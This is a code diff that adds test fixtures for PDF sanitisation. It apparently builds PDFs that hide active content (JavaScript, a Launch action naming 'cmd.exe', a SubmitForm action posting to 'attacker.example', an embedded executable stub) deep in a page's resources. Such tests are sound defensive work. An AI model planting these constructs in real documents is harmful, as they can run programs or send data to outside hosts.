@@ -248,3 +248,36 @@ def objects_in_the_resources(count: int) -> bytes:
         pdf.pages[0].Resources.Properties = Dictionary(properties)
 
     return _with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+
+
+# Active things a property-based test hides at any depth in a page's resources.
+ACTIVE_THINGS: dict[str, Callable[[pikepdf.Pdf], pikepdf.Object]] = {
+    "script": lambda pdf: javascript(),
+    "launch": lambda pdf: Dictionary(S=Name.Launch, F=String("cmd.exe")),
+    "remote": lambda pdf: Dictionary(S=Name.GoToR, F=String("x.pdf")),
+    "submit": lambda pdf: Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/")),
+    "widget": lambda pdf: Dictionary(Type=Name.Annot, Subtype=Name.Widget, AA=Dictionary()),
+    "file": lambda pdf: Dictionary(Type=Name.Filespec, EF=Dictionary(F=pdf.make_stream(b"MZ"))),
+    "postscript": lambda pdf: pdf.make_stream(b"showpage", Type=Name.XObject, Subtype=Name.PS),
+    "xmp": lambda pdf: pdf.make_stream(b"<x:xmpmeta/>", Type=Name.Metadata, Subtype=Name.XML),
+    "page actions": lambda pdf: Dictionary(AA=Dictionary(O=javascript())),
+    "named scripts": lambda pdf: Dictionary(Names=Dictionary(JavaScript=Dictionary())),
+}
+
+
+def hidden_in_the_resources(
+    thing: str, path: list[str], *, indirect: bool, in_array: bool
+) -> bytes:
+    """`thing` placed at `path` under the page's marked-content properties."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        value = ACTIVE_THINGS[thing](pdf)
+        if indirect:
+            value = pdf.make_indirect(value)
+        if in_array:
+            value = Array([1, value, Name.Plain])
+        for key in reversed(path):
+            value = Dictionary({f"/{key}": value})
+        pdf.pages[0].Resources.Properties = value
+
+    return _with(change)
